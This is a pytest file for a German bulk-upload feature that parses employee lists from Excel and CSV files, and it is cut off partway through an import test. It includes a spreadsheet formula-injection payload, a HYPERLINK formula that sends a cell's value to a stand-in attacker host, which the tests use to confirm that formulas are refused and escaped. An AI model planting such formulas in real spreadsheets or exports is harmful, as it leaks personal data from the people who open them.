"""Massenupload (issue 6): the parser over files as real spreadsheet programs write them, the row checks, and the
import on SQLite and PostgreSQL (all or nothing, history, audit, permissions).

The files are made here: XLSX through openpyxl the way Excel stores them (date cells, numbers for PLZ), CSV in the
encodings and separators German Excel and LibreOffice write.
"""

from __future__ import annotations

import csv
import io
import logging
import re
import zipfile
from collections.abc import Callable, Iterator, Mapping, Sequence
from datetime import date, datetime, timedelta
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from models import (
    Abo,
    AboStatus,
    Antrag,
    AntragSource,
    AntragStatus,
    AuditEvent,
    Contract,
    ContractStatus,
    Customer,
    PortalUser,
    Role,
    Upload,
    UploadResult,
)
from services import abo_dates, antraege, clock, massenupload
from services.audit import AuditKind
from services.errors import NotFound, PermissionDenied, ServiceError
from services.massenupload import (
    EXISTING_NUMBER,
    EXISTING_PERSON,
    FORMULA,
    NOT_CSV,
    NOT_XLSX,
    PERSON_COLUMN,
    PLZ_FOUR_DIGITS,
    TEMPLATE_COLUMNS,
    Fault,
    Preview,
    UploadError,
    UploadRow,
    workflow,
)
from services.settings import reset_settings
from services.validation import format_german_date
from tests.conftest import flat, make_user, new_contract

TODAY = date(2026, 3, 5)  # before the cut-off: the first open start month is April 2026
START = abo_dates.first_open_start_month(TODAY)
PNG = (b'\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89'
       b'\x00\x00\x00\rIDATx\x9cc\xf8\xff\xff?\x00\x05\xfe\x02\xfe\xa7\x35\x81\x84\x00\x00\x00\x00IEND\xaeB`\x82')
FIRST_NAMES = ('Jürgen', 'Lena', 'Özlem', 'Jan', 'Marie', 'Sören', 'Aylin', 'Paul', 'Grete', 'Malte')
LAST_NAMES = ('Weiß', 'Schäfer', 'Müller', 'Groß', 'Krüger', 'Yılmaz', 'Becker', 'Hoffmann', 'Schröder', 'Kaya')


@pytest.fixture(autouse=True)
def pinned_today(monkeypatch: pytest.MonkeyPatch) -> Callable[[date], None]:
    def move_to(day: date) -> None:
        monkeypatch.setattr('services.clock.today', lambda: day)

    move_to(TODAY)
    return move_to


# --- files as spreadsheet programs write them -----------------------------------------------------------------------


def person(index: int, **changes: object) -> dict[str, object]:
    """Row values by column name, as Excel holds them: dates as dates, PLZ as a number."""
    values: dict[str, object] = {
        'Anrede': ('Frau', 'Herr', 'Divers', 'Keine Angabe')[index % 4],
        'Vorname': f'{FIRST_NAMES[index % 10]}',
        'Nachname': f'{LAST_NAMES[index % 10]}-{index}',
        'Geburtsdatum': date(1960 + index % 40, 1 + index % 12, 1 + index % 28),
        'E-Mail-Adresse': f'person{index}@fahrradmanufaktur-kassel.de',
        'Straße und Hausnummer': f'Wilhelmshöher Allee {index + 1}',
        'PLZ': 34117 + index % 50,
        'Ort': 'Kassel',
        'Personalnummer': f'P-{1000 + index}',
        'Startmonat': START,
        'Ticketart': ('Chipkarte', 'Handyticket')[index % 2],
    }
    values.update(changes)
    return values


def birthday_of(row: Mapping[str, object]) -> date:
    """The Geburtsdatum cell of a `person` row that holds a date."""
    value = row['Geburtsdatum']
    assert isinstance(value, date), value
    return value


def people(count: int, start: int = 0) -> list[dict[str, object]]:
    return [person(index) for index in range(start, start + count)]


def as_text(value: object) -> str:
    return format_german_date(value) if isinstance(value, date) else '' if value is None else str(value)


def xlsx_file(
    rows: Sequence[dict[str, object]], columns: Sequence[str] = TEMPLATE_COLUMNS, *, before: Sequence[Sequence] = (),
    trailing_styled_rows: int = 0,
) -> bytes:
    """An .xlsx like Excel saves it: date cells formatted TT.MM.JJJJ, numbers as numbers, optional title rows above
    the header and formatted but empty rows below the data."""
    workbook = Workbook()
    sheet = workbook.active
    for line in before:
        sheet.append(list(line))
    sheet.append(list(columns))
    for row in rows:
        sheet.append([row.get(column) for column in columns])
    for cells in sheet.iter_rows(min_row=len(before) + 2):
        for cell in cells:
            if isinstance(cell.value, date):
                cell.number_format = 'DD.MM.YYYY'
    last = sheet.max_row
    for offset in range(1, trailing_styled_rows + 1):  # formatted, never filled: Excel keeps them in the file
        sheet.cell(row=last + offset, column=1).number_format = '@'
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def csv_file(
    rows: Sequence[Mapping[str, object]], columns: Sequence[str] = TEMPLATE_COLUMNS, *, delimiter: str = ';',
    encoding: str = 'utf-8', line_end: str = '\r\n', blank_lines: dict[int, str] | None = None,
) -> bytes:
    """A CSV as Excel or LibreOffice write it. `blank_lines` puts a line (e.g. ';;;' or '') before data row n."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator=line_end)
    writer.writerow(columns)
    for index, row in enumerate(rows):
        if blank_lines and index in blank_lines:
            buffer.write(blank_lines[index] + line_end)
        writer.writerow([as_text(row.get(column)) for column in columns])
    if blank_lines and len(rows) in blank_lines:
        buffer.write(blank_lines[len(rows)] + line_end)
    return buffer.getvalue().encode(encoding)


def read(data: bytes, name: str = 'liste.csv') -> Preview:
    return massenupload.read_upload(data, name, TODAY)


def new_rows(preview: Preview) -> list[UploadRow]:
    """The checked rows of a list of new people (a change or leaver row has no Antrag data)."""
    rows = list(preview.rows)
    assert all(isinstance(row, UploadRow) for row in rows), rows
    return [row for row in rows if isinstance(row, UploadRow)]


def faults_of(preview: Preview) -> set[tuple[int, str, str]]:
    return {(fault.row, fault.column, fault.reason) for fault in preview.faults}


def upload_error(data: bytes, name: str) -> str:
    with pytest.raises(UploadError) as caught:
        massenupload.parse_upload(data, name)
    return str(caught.value)


# --- the template ---------------------------------------------------------------------------------------------------


def test_the_templates_have_the_columns_and_one_example_row() -> None:
    workbook = load_workbook(io.BytesIO(massenupload.template_xlsx(TODAY)))
    sheet = workbook.worksheets[0]
    header, example, *rest = list(sheet.iter_rows(values_only=True))
    assert header == TEMPLATE_COLUMNS == (
        'Anrede', 'Vorname', 'Nachname', 'Geburtsdatum', 'E-Mail-Adresse', 'Straße und Hausnummer', 'PLZ', 'Ort',
        'Personalnummer', 'Startmonat', 'Ticketart',
    )
    assert not any(any(value is not None for value in row) for row in rest)
    assert example[9] == datetime(2026, 4, 1)  # a date cell: the first open month
    assert sheet['J2'].number_format == 'DD.MM.YYYY'
    assert sheet['G3'].number_format == '@'  # PLZ as text: Excel keeps 01067
    assert 'Hinweise' in workbook.sheetnames

    text = massenupload.template_csv(TODAY)
    assert text.startswith(b'\xef\xbb\xbf')
    lines = text.decode('utf-8-sig').splitlines()
    assert lines[0] == ';'.join(TEMPLATE_COLUMNS)
    assert len(lines) == 2
    assert lines[1].split(';')[9] == '01.04.2026'


def test_the_template_start_month_follows_the_cut_off_day() -> None:
    after_cut_off = date(2026, 3, 11)
    assert massenupload.template_csv(after_cut_off).decode('utf-8-sig').splitlines()[1].split(';')[9] == '01.05.2026'


@pytest.mark.parametrize('name', ['Vorlage.xlsx', 'Vorlage.csv'])
def test_the_template_reads_back_with_only_the_example_row_refused(name: str) -> None:
    data = massenupload.template_xlsx(TODAY) if name.endswith('xlsx') else massenupload.template_csv(TODAY)
    preview = read(data, name)
    assert preview.row_count == 1
    assert faults_of(preview) == {(2, PERSON_COLUMN, massenupload.EXAMPLE_ROW)}


# --- XLSX as Excel writes it ----------------------------------------------------------------------------------------


def test_excel_cells_dates_numbers_other_column_order_and_trailing_rows() -> None:
    columns = ('Nachname', 'Vorname', 'PLZ', 'Ort', 'Startmonat', 'Ticketart', 'Anrede', 'E-Mail-Adresse',
               'Geburtsdatum', 'Straße und Hausnummer', 'Personalnummer')
    rows = [person(0, PLZ=1067, Ort='Dresden', Personalnummer=4711), person(1, Startmonat=datetime(2026, 5, 1)),
            person(2, PLZ=34117.0)]
    data = xlsx_file(rows, columns, trailing_styled_rows=30)
    parsed = massenupload.parse_upload(data, 'Mitarbeiter.xlsx')
    assert [row.row for row in parsed.rows] == [2, 3, 4]
    first = parsed.rows[0].data
    assert (first.plz, first.ort, first.personalnummer) == ('01067', 'Dresden', '4711')
    assert first.geburtsdatum == format_german_date(birthday_of(rows[0]))
    assert first.startmonat == '01.04.2026'
    assert parsed.rows[1].data.startmonat == '01.05.2026'
    assert parsed.rows[2].data.plz == '34117'  # 34117.0: a number cell that Excel stored as float
    preview = massenupload.check_rows(parsed, TODAY)
    assert preview.faults == []
    assert preview.valid_count == preview.row_count == 3
    assert new_rows(preview)[0].data.plz == '01067'
    assert new_rows(preview)[0].data.geburtsdatum == rows[0]['Geburtsdatum']


def test_header_names_ignore_case_spaces_and_a_title_row_above() -> None:
    columns = (' anrede', 'VORNAME ', 'Nach name', 'geburtsdatum', 'e-mail-adresse', 'Strasse und Hausnummer', 'plz',
               'ORT', 'Personal-Nummer', 'Start monat', 'ticketart', 'Kostenstelle')
    rows = [{column: person(3)[name] for column, name in zip(columns, (*TEMPLATE_COLUMNS, 'Ort'), strict=True)}]
    data = xlsx_file(rows, columns, before=[['Mitarbeiterliste Fahrradmanufaktur'], []])
    preview = read(data, 'liste.xlsx')
    assert preview.faults == []
    assert preview.rows[0].row == 4  # title, empty row, header, then the person
    assert new_rows(preview)[0].data.vorname == person(3)['Vorname']


def test_the_sheet_with_the_columns_is_found_when_another_is_active() -> None:
    workbook = Workbook()
    notes = workbook.active
    notes.title = 'Notizen'
    notes.append(['Bitte bis Freitag hochladen'])
    data_sheet = workbook.create_sheet('Daten')
    data_sheet.append(list(TEMPLATE_COLUMNS))
    data_sheet.append([as_text(person(1)[column]) for column in TEMPLATE_COLUMNS])
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert read(buffer.getvalue(), 'liste.xlsx').valid_count == 1


def test_excel_date_numbers_and_month_spellings() -> None:
    rows = [person(0, Geburtsdatum=32_338, Startmonat='04.2026'), person(1, Startmonat='April 2026'),
            person(2, Geburtsdatum='1988-07-14', Startmonat='01.04.2026 00:00:00')]
    parsed = massenupload.parse_upload(xlsx_file(rows), 'liste.xlsx')
    assert [row.data.geburtsdatum for row in parsed.rows] == ['14.07.1988', format_german_date(
        birthday_of(rows[1])), '1988-07-14']
    assert {row.data.startmonat for row in parsed.rows} == {'01.04.2026'}
    assert massenupload.check_rows(parsed, TODAY).faults == []


def test_a_wrong_dimension_in_the_file_does_not_cut_columns() -> None:
    data = xlsx_file(people(2))
    patched = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(patched, 'w') as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == 'xl/worksheets/sheet1.xml':
                # openpyxl writes '<dimension ref="A1:K3" />' or, with lxml installed, without the space
                content = re.sub(rb'<dimension ref="A1:K3"\s*/>', b'<dimension ref="A1" />', content)
                assert b'<dimension ref="A1" />' in content
            target.writestr(item, content)
    assert read(patched.getvalue(), 'liste.xlsx').valid_count == 2


# --- CSV as German Excel and LibreOffice write it -------------------------------------------------------------------


def test_windows_1252_csv_with_umlauts() -> None:
    rows = [person(0, Vorname='Jürgen', Nachname='Weiß', Ort='Großalmerode',
                   **{'Straße und Hausnummer': 'Straße der Einheit 5'})]
    data = csv_file(rows, encoding='cp1252')
    with pytest.raises(UnicodeDecodeError):
        data.decode('utf-8')
    preview = read(data)
    assert preview.faults == []
    checked = new_rows(preview)[0].data
    assert (checked.vorname, checked.nachname, checked.ort, checked.strasse) == (
        'Jürgen', 'Weiß', 'Großalmerode', 'Straße der Einheit 5')


@pytest.mark.parametrize(('encoding', 'delimiter'), [('utf-8-sig', ';'), ('utf-8-sig', ','), ('utf-8', ','),
                                                     ('utf-8', '\t'), ('utf-16', '\t'), ('cp1252', ',')])
def test_bom_and_separators(encoding: str, delimiter: str) -> None:
    rows = [person(0, Ort='Hann. Münden, Ortsteil Gimte'), person(1, Nachname='Özdemir; Schmidt')]
    preview = read(csv_file(rows, delimiter=delimiter, encoding=encoding))
    assert preview.faults == []
    assert [row.data.ort for row in new_rows(preview)] == ['Hann. Münden, Ortsteil Gimte', 'Kassel']
    assert new_rows(preview)[1].data.nachname == 'Özdemir; Schmidt'


def test_empty_lines_are_skipped_and_row_numbers_stay_those_of_the_sheet() -> None:
    rows = people(3)
    rows[2] = person(2, **{'E-Mail-Adresse': 'keine-adresse'})
    data = csv_file(rows, blank_lines={1: ';;;;;;;;;;', 2: '', 3: ';;;;;;;;;;'}, line_end='\n')
    preview = read(data + b'\n\n;;;;;;;;;;\n')
    assert preview.row_count == 3
    assert [row.row for row in preview.rows] == [2, 4]
    assert faults_of(preview) == {(6, 'E-Mail-Adresse', 'Bitte geben Sie eine gültige E-Mail-Adresse an.')}


def test_quoted_cells_with_line_breaks_count_as_one_row() -> None:
    rows = [person(0, **{'Straße und Hausnummer': 'Hinterhaus\nKölnische Straße 8'}),
            person(1, Anrede='Mx')]
    preview = read(csv_file(rows))
    assert new_rows(preview)[0].data.strasse == 'Hinterhaus Kölnische Straße 8'  # one line, as an address is stored
    assert {(fault.row, fault.column) for fault in preview.faults} == {(3, 'Anrede')}


def test_a_title_line_with_commas_above_a_semicolon_header() -> None:
    data = 'Mitarbeiterliste, Stand März 2026;;;\r\n\r\n'.encode('cp1252') + csv_file(people(2), encoding='cp1252')
    preview = read(data)
    assert preview.valid_count == 2
    assert [row.row for row in preview.rows] == [4, 5]


def test_excels_sep_line_is_understood() -> None:
    data = b'sep=,\r\n' + csv_file(people(2), delimiter=',')
    preview = read(data)
    assert preview.valid_count == 2
    assert [row.row for row in preview.rows] == [2, 3]


def test_a_plz_that_excel_shortened_gets_its_zero_back_only_in_the_plz() -> None:
    """Issue 15: only a number cell lost the zero (Excel stores 01067 as 1067); four digits typed as text are a
    fault, not silently padded."""
    preview = read(xlsx_file([person(0, PLZ=1067, Ort='Dresden', Personalnummer='0815')]), 'liste.xlsx')
    assert (new_rows(preview)[0].data.plz, new_rows(preview)[0].data.personalnummer) == ('01067', '0815')
    typed = read(csv_file([person(0, PLZ='1067', Ort='Dresden', Personalnummer='0815')]))
    assert faults_of(typed) == {(2, 'PLZ', PLZ_FOUR_DIGITS)}
    text_cell = read(xlsx_file([person(0, PLZ='1067', Ort='Dresden')]), 'liste.xlsx')
    assert faults_of(text_cell) == {(2, 'PLZ', PLZ_FOUR_DIGITS)}
    short = read(csv_file([person(0, PLZ='341', Personalnummer='815')]))
    assert faults_of(short) == {(2, 'PLZ', 'Die PLZ besteht aus genau 5 Ziffern.')}


# --- formulas -------------------------------------------------------------------------------------------------------


HYPERLINK = '=HYPERLINK("https://angreifer.example/?d="&B2,"Klick")'


def test_formulas_in_xlsx_stay_text_and_are_refused() -> None:
    rows = [person(0, Ort=HYPERLINK), person(1, Startmonat='=DATE(2026,4,1)'), person(2)]
    parsed = massenupload.parse_upload(xlsx_file(rows), 'liste.xlsx')
    assert parsed.rows[0].data.ort == HYPERLINK
    assert parsed.rows[1].data.startmonat == '=DATE(2026,4,1)'
    preview = massenupload.check_rows(parsed, TODAY)
    assert faults_of(preview) == {(2, 'Ort', FORMULA), (3, 'Startmonat', FORMULA)}
    assert [row.row for row in preview.rows] == [4]


def test_formulas_in_csv_stay_text_and_are_refused() -> None:
    preview = read(csv_file([person(0, Nachname=HYPERLINK, **{'E-Mail-Adresse': '=1+1'})]))
    assert faults_of(preview) == {(2, 'Nachname', FORMULA), (2, 'E-Mail-Adresse', FORMULA)}


# --- limits and files that are no list ------------------------------------------------------------------------------


def test_a_file_with_10001_rows_is_refused_and_10000_are_read() -> None:
    rows = people(10_001)
    message = upload_error(csv_file(rows), 'gross.csv')
    assert message == 'Die Datei enthält mehr als 10.000 Zeilen. Bitte teilen Sie die Liste auf mehrere Dateien auf.'
    assert len(massenupload.parse_upload(csv_file(rows[:10_000]), 'gerade.csv').rows) == 10_000


def test_the_row_limit_for_xlsx_and_from_the_settings(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv('MASSENUPLOAD_MAX_ROWS', '5')
    reset_settings()
    assert upload_error(xlsx_file(people(6)), 'liste.xlsx') == (
        'Die Datei enthält mehr als 5 Zeilen. Bitte teilen Sie die Liste auf mehrere Dateien auf.')
    assert len(massenupload.parse_upload(xlsx_file(people(5)), 'liste.xlsx').rows) == 5


def test_a_file_over_5_mb_is_refused() -> None:
    data = csv_file(people(2)) + b' ' * (5 * 1024 * 1024)
    assert upload_error(data, 'liste.csv') == (
        'Die Datei ist größer als 5 MB. Bitte teilen Sie die Liste auf mehrere Dateien auf.')
    assert upload_error(data, 'liste.xlsx').startswith('Die Datei ist größer als 5 MB.')


@pytest.mark.parametrize(('data', 'name', 'message'), [
    (PNG, 'Mitarbeiter.xlsx', NOT_XLSX),
    (PNG, 'Mitarbeiter.csv', NOT_CSV),
    (b'Anrede;Vorname\r\nFrau;Lena\r\n', 'Mitarbeiter.xlsx', NOT_XLSX),
    (b'PK\x03\x04' + b'\x00' * 200, 'Mitarbeiter.xlsx', NOT_XLSX),
    (b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' + b'\x00' * 100, 'Mitarbeiter.xls', massenupload.OLD_EXCEL),
    (b'%PDF-1.7\n', 'Mitarbeiter.pdf', massenupload.WRONG_TYPE),
    (b'', 'leer.csv', massenupload.EMPTY_FILE),
    (b'\r\n;;;\r\n', 'leer.csv', massenupload.EMPTY_FILE),
    (';'.join(TEMPLATE_COLUMNS).encode(), 'nur-kopf.csv', massenupload.NO_ROWS),
])
def test_files_that_are_no_employee_list(data: bytes, name: str, message: str) -> None:
    assert upload_error(data, name) == message


def test_a_zip_that_is_no_workbook_and_a_broken_workbook() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, 'w') as archive:
        archive.writestr('hallo.txt', 'kein Excel')
    assert upload_error(buffer.getvalue(), 'liste.xlsx') == NOT_XLSX
    data = xlsx_file(people(1))
    assert upload_error(data[: len(data) // 2], 'liste.xlsx') == NOT_XLSX


def test_an_xlsx_saved_as_csv_is_read_as_excel() -> None:
    assert read(xlsx_file(people(2)), 'liste.csv').valid_count == 2


def test_missing_and_doubled_columns_are_named() -> None:
    columns = [column for column in TEMPLATE_COLUMNS if column not in ('Geburtsdatum', 'PLZ', 'Personalnummer')]
    assert upload_error(csv_file(people(1), columns), 'liste.csv') == (
        'In der Kopfzeile fehlen die Spalten „Geburtsdatum“, „PLZ“. Bitte verwenden Sie die Vorlage.')
    one_missing = [column for column in TEMPLATE_COLUMNS if column != 'Ticketart']
    assert upload_error(xlsx_file(people(1), one_missing), 'liste.xlsx') == (
        'In der Kopfzeile fehlt die Spalte „Ticketart“. Bitte verwenden Sie die Vorlage.')
    doubled = [*TEMPLATE_COLUMNS, 'vorname']
    assert upload_error(csv_file(people(1), doubled), 'liste.csv') == (
        'Die Spalte „Vorname“ steht zweimal in der Kopfzeile.')
    # without the optional Personalnummer the file is fine
    optional = [column for column in TEMPLATE_COLUMNS if column != 'Personalnummer']
    assert read(csv_file(people(2), optional)).valid_count == 2


# --- property-based: no input crashes the parser --------------------------------------------------------------------


def outcome(data: bytes, name: str) -> str:
    """'ok' or the German message; any other exception fails the test."""
    try:
        preview = massenupload.read_upload(data, name, TODAY)
    except UploadError as error:
        message = str(error)
        assert message and message[0].isupper() and message.endswith('.'), message
        return message
    assert preview.row_count == len(preview.rows) + preview.faulty_count
    return 'ok'


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.binary(max_size=3000), name=st.sampled_from(['a.csv', 'a.xlsx', 'a.txt', 'a', 'a.xls']))
def test_arbitrary_bytes_never_crash_the_parser(data: bytes, name: str) -> None:
    outcome(data, name)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(tail=st.binary(max_size=2000))
def test_damaged_zip_files_never_crash_the_parser(tail: bytes) -> None:
    data = xlsx_file(people(1))
    outcome(data[:200] + tail, 'a.xlsx')
    outcome(b'PK\x03\x04' + tail, 'a.xlsx')


cell_text = st.text(st.characters(blacklist_categories=['Cs']), max_size=30)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(cells=st.lists(st.lists(cell_text, min_size=0, max_size=13), max_size=8),
       delimiter=st.sampled_from([';', ',', '\t']), encoding=st.sampled_from(['utf-8', 'utf-8-sig', 'cp1252']))
def test_arbitrary_cells_under_the_template_header_never_crash(
    cells: list[list[str]], delimiter: str, encoding: str
) -> None:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerow(TEMPLATE_COLUMNS)
    writer.writerows(cells)
    data = buffer.getvalue().encode(encoding, errors='replace')
    result = outcome(data, 'a.csv')
    if result == 'ok':
        preview = massenupload.read_upload(data, 'a.csv', TODAY)
        assert all(fault.row >= 2 for fault in preview.faults)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(cells=st.lists(st.lists(st.one_of(
    cell_text, st.integers(-10**12, 10**12), st.floats(allow_nan=True), st.dates(), st.booleans(), st.none(),
), min_size=11, max_size=11), min_size=1, max_size=5))
def test_arbitrary_excel_cells_never_crash(cells: list[list[object]]) -> None:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(list(TEMPLATE_COLUMNS))
    buffer = io.BytesIO()
    try:
        for row in cells:
            sheet.append(row)
        workbook.save(buffer)
    except Exception:  # openpyxl refuses control characters and dates before 1900 itself
        return
    outcome(buffer.getvalue(), 'a.xlsx')


# --- faults per row -------------------------------------------------------------------------------------------------


def test_each_fault_names_its_row_column_and_reason() -> None:
    rows = [
        person(0),
        person(1, Vorname='  '),
        person(2, Geburtsdatum='31.02.1980'),
        person(3, PLZ='341170'),
        person(4, **{'E-Mail-Adresse': 'lena.schaefer(at)example.de'}),
        person(5, Startmonat=date(2026, 1, 1)),
        person(6, Startmonat='15.04.2026'),
        person(7, Ticketart='Monatskarte', Anrede='Mx'),
        person(8, Geburtsdatum=date(2020, 1, 1), Ort=''),
        person(9, Personalnummer='X' * 51),
    ]
    preview = read(csv_file(rows))
    assert preview.row_count == 10
    assert preview.valid_count == 1
    assert preview.faulty_count == 9
    assert [(fault.row, fault.column, fault.reason) for fault in preview.faults] == [
        (3, 'Vorname', 'Bitte geben Sie Ihren Vornamen an.'),
        (4, 'Geburtsdatum', 'Bitte geben Sie das Geburtsdatum im Format TT.MM.JJJJ an.'),
        (5, 'PLZ', 'Die PLZ besteht aus genau 5 Ziffern.'),
        (6, 'E-Mail-Adresse', 'Bitte geben Sie eine gültige E-Mail-Adresse an.'),
        (7, 'Startmonat', 'Dieser Startmonat ist nicht mehr oder noch nicht wählbar (frühestens April 2026).'),
        (8, 'Startmonat', 'Bitte geben Sie den Startmonat als Monatsersten an (01.MM.JJJJ).'),
        (9, 'Anrede', 'Bitte geben Sie als Anrede Frau, Herr, Divers oder Keine Angabe an.'),
        (9, 'Ticketart', 'Bitte geben Sie als Ticketart Chipkarte oder Handyticket an.'),
        (10, 'Geburtsdatum', 'Das Geburtsdatum ist nicht plausibel (Alter 14 bis 100 Jahre).'),
        (10, 'Ort', 'Bitte geben Sie den Ort an.'),
        (11, 'Personalnummer', 'Die Personalnummer darf höchstens 50 Zeichen lang sein.'),
    ]
    assert [row.row for row in preview.rows] == [2]


def test_duplicates_within_the_file() -> None:
    rows = [
        person(0),
        person(1),
        person(0, Vorname=f'  {str(person(0)["Vorname"]).upper()} ', Personalnummer='P-9999',
               **{'E-Mail-Adresse': 'andere@example.org'}),
        person(2, Personalnummer='p-1001'),  # the Personalnummer of row 3, in other letters
        person(3, Personalnummer=''),
        person(4, Personalnummer=''),  # no Personalnummer twice is fine
    ]
    preview = read(csv_file(rows))
    assert faults_of(preview) == {
        (4, PERSON_COLUMN, 'Diese Person steht bereits in Zeile 2 der Datei.'),
        (5, 'Personalnummer', 'Die Personalnummer steht bereits in Zeile 3 der Datei.'),
    }
    assert preview.valid_count == 4


def test_a_duplicate_shows_even_when_the_first_row_has_another_fault() -> None:
    rows = [person(0, PLZ='abc'), person(0)]
    assert {(fault.row, fault.column) for fault in read(csv_file(rows)).faults} == {(2, 'PLZ'), (3, PERSON_COLUMN)}


def test_progress_is_reported_up_to_the_end() -> None:
    calls: list[tuple[int, int]] = []
    massenupload.read_upload(csv_file(people(1200)), 'liste.csv', TODAY, lambda done, total: calls.append(
        (done, total)))
    assert calls[-1] == (2400, 2400)
    assert all(done <= total for done, total in calls if total)
    assert len(calls) >= 8


def test_the_error_list_is_excel_csv_and_safe_from_formulas() -> None:
    preview = Preview('x.csv', 'ab', TODAY, 2, [], [
        Fault(0, '–', 'Diese Datei wurde bereits importiert.'), Fault(3, 'Ort', '=HYPERLINK("x")'),
        Fault(4, '@Spalte', 'Grund; mit Semikolon'),
    ])
    data = massenupload.error_list_csv(preview)
    assert data.startswith(b'\xef\xbb\xbf')
    rows = list(csv.reader(io.StringIO(data.decode('utf-8-sig')), delimiter=';'))
    assert rows == [['Zeile', 'Spalte', 'Grund'], ['–', '–', 'Diese Datei wurde bereits importiert.'],
                    ['3', 'Ort', '\'=HYPERLINK("x")'], ['4', "'@Spalte", 'Grund; mit Semikolon']]


# --- against the contract: database duplicates ----------------------------------------------------------------------


async def existing(contract: Contract, row: dict[str, object], kind: str, **changes: Any) -> None:
    """An Antrag (kind 'antrag-<status>') or Abo ('abo-<status>') of the person of `row` under the contract."""
    preview = read(csv_file([row]))
    (checked,) = new_rows(preview)
    values = vars(checked.data).copy()
    if kind.startswith('antrag'):
        await Antrag.create(reference=f'A-2026-{len(kind)}{await Antrag.all().count():05d}', contract=contract,
                            status=kind.split('-')[1], created_at=datetime.now(tz=clock.BERLIN),
                            **{**values, **changes})
    else:
        for name in ('anrede', 'email'):
            values.pop(name)
        await Abo.create(contract=contract, status=kind.split('-', 1)[1],
                         created_at=datetime.now(tz=clock.BERLIN), **{**values, **changes})


async def checked_preview(actor: PortalUser, contract: Contract, data: bytes, name: str = 'liste.csv') -> Preview:
    return await massenupload.preview_upload(actor, contract.id, data, name, client='192.0.2.7')


async def test_persons_with_an_open_antrag_or_a_running_abo_are_faults(
    db: str, admin: PortalUser, contract: Contract, company: Customer
) -> None:
    rows = people(7)
    await existing(contract, rows[0], 'antrag-offen')
    await existing(contract, rows[1], 'abo-aktiv')
    await existing(contract, rows[2], 'abo-gekündigt', endmonat=date(2026, 3, 31))  # runs to the end of March
    await existing(contract, rows[3], 'abo-gekündigt', endmonat=date(2026, 2, 28))  # has ended
    await existing(contract, rows[4], 'antrag-abgelehnt')
    await existing(contract, rows[5], 'abo-beendet', endmonat=date(2025, 12, 31))
    other = await new_contract(company, 'V-2026-0002')
    await existing(other, rows[6], 'abo-aktiv')  # another contract of the company: no duplicate here
    preview = await checked_preview(admin, contract, csv_file(rows))
    assert faults_of(preview) == {(2, PERSON_COLUMN, EXISTING_PERSON), (3, PERSON_COLUMN, EXISTING_PERSON),
                                  (4, PERSON_COLUMN, EXISTING_PERSON)}
    assert preview.valid_count == 4
    assert [row.row for row in preview.rows] == [5, 6, 7, 8]
    assert not preview.importable


async def test_a_personalnummer_of_another_running_abo_is_a_fault(
    db: str, admin: PortalUser, contract: Contract
) -> None:
    await existing(contract, person(50, Personalnummer='P-1000'), 'abo-aktiv')
    preview = await checked_preview(admin, contract, csv_file(people(2)))
    assert faults_of(preview) == {(2, 'Personalnummer', EXISTING_NUMBER)}


async def test_the_duplicate_check_asks_the_database_once_for_the_whole_file(
    db: str, admin: PortalUser, contract: Contract, caplog: pytest.LogCaptureFixture
) -> None:
    async def selects(count: int) -> int:
        preview = massenupload.read_upload(csv_file(people(count)), 'liste.csv', TODAY)
        caplog.clear()
        with caplog.at_level(logging.DEBUG, logger='tortoise.db_client'):
            await massenupload.check_against_contract(admin, contract.id, preview)
        return sum('SELECT' in record.getMessage() for record in caplog.records
                   if record.name == 'tortoise.db_client')

    assert await selects(5) == await selects(400)


async def test_an_inactive_contract_takes_no_upload(db: str, staff: PortalUser, company: Customer) -> None:
    ended = await new_contract(company, 'V-2023-0009', status=ContractStatus.BEENDET, ende=date(2025, 12, 31))
    preview = await checked_preview(staff, ended, csv_file(people(1)))
    assert faults_of(preview) == {(0, '–', massenupload.INACTIVE_CONTRACT)}
    assert not preview.importable


# --- import ---------------------------------------------------------------------------------------------------------


async def test_import_creates_approved_antraege_with_their_abos(
    db: str, admin: PortalUser, contract: Contract
) -> None:
    rows = people(25)
    data = xlsx_file(rows)
    preview = await checked_preview(admin, contract, data, 'Neue Mitarbeitende.xlsx')
    assert preview.importable
    # a good file is kept on the server as checked, with its rows, until it is imported by id
    assert await Upload.filter(id=preview.upload_id, result=UploadResult.GEPRUEFT).count() == 1
    upload = await massenupload.import_upload(admin, contract.id, preview.upload_id,
                                              client='192.0.2.7')
    assert (upload.result, upload.row_count, upload.valid_count, upload.faulty_count, upload.imported_count) == (
        UploadResult.IMPORTIERT, 25, 25, 0, 25)
    assert upload.file_name == 'Neue Mitarbeitende.xlsx'
    assert upload.file_sha256 == massenupload.sha256_of(data)
    assert upload.uploaded_by_id == admin.id
    assert upload.message == '25 Abos angelegt.'

    antraege_ = await Antrag.filter(contract_id=contract.id).order_by('nachname')
    assert len(antraege_) == 25
    assert {(a.source, a.status, a.decided_by_id, a.upload_id) for a in antraege_} == {
        (AntragSource.MASSENUPLOAD, AntragStatus.GENEHMIGT, admin.id, upload.id)}
    assert all(a.reference.startswith('A-2026-') and len(a.reference) == 13 for a in antraege_)
    assert len({a.reference for a in antraege_}) == 25
    first = next(a for a in antraege_ if a.nachname == rows[0]['Nachname'])
    assert (first.vorname, first.plz, first.startmonat, first.email) == (
        rows[0]['Vorname'], '34117', START, rows[0]['E-Mail-Adresse'])
    assert first.search_text and str(rows[0]['Nachname']).casefold() in first.search_text

    abos = await Abo.filter(contract_id=contract.id)
